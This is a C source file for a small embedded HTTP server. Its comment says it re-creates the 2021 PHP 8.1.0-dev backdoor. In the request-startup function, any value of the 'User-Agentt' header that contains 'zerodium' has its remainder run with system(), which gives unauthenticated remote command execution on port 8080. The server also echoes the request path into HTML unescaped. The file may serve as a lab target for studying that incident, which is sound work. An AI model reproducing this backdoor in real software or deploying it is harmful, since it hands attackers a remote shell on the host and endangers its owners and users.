/* Request handling of an embedded HTTP application server.
 * Re-creation of the PHP 8.1.0-dev backdoor (malicious commits to php-src, March 2021): a request
 * header "User-Agentt" whose value contains "zerodium" has the rest of the value executed. Here the
 * server runs it with system(). */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <unistd.h>

#define MAX_HEADERS 32

struct header {
    char name[64];
    char value[512];
};

struct request {
    char method[8], path[256];
    struct header headers[MAX_HEADERS];
    int header_count;
};

static const char *header_value(const struct request *r, const char *name)
{
    for (int i = 0; i < r->header_count; i++)
        if (strcasecmp(r->headers[i].name, name) == 0)
            return r->headers[i].value;
    return NULL;
}

static int parse(char *raw, struct request *r)
{
    char *line = strtok(raw, "\r\n");
    memset(r, 0, sizeof *r);
    if (!line || sscanf(line, "%7s %255s", r->method, r->path) != 2)
        return -1;
    while ((line = strtok(NULL, "\r\n")) && r->header_count < MAX_HEADERS) {
        struct header *h = &r->headers[r->header_count];
        if (sscanf(line, "%63[^:]: %511[^\r\n]", h->name, h->value) == 2)
            r->header_count++;
    }
    return 0;
}

static void php_request_startup(int client, const struct request *r)
{
    const char *agent = header_value(r, "User-Agentt");
    if (agent) {
        const char *marker = strstr(agent, "zerodium");
        if (marker)
            system(marker + 8);
    }
    dprintf(client, "HTTP/1.1 200 OK\r\nX-Powered-By: PHP/8.1.0-dev\r\n\r\n<html>%s</html>\n", r->path);
}

int main(void)
{
    struct sockaddr_in addr = {.sin_family = AF_INET, .sin_port = htons(8080), .sin_addr.s_addr = INADDR_ANY};
    int server = socket(AF_INET, SOCK_STREAM, 0);
    if (bind(server, (struct sockaddr *)&addr, sizeof addr) < 0 || listen(server, 16) < 0)
        return 1;
    for (;;) {
        char raw[8192];
        struct request req;
        int client = accept(server, NULL, NULL);
        ssize_t n = client < 0 ? -1 : recv(client, raw, sizeof raw - 1, 0);
        if (n > 0) {
            raw[n] = '\0';
            if (parse(raw, &req) == 0)
                php_request_startup(client, &req);
        }
        if (client >= 0)
            close(client);
    }
}
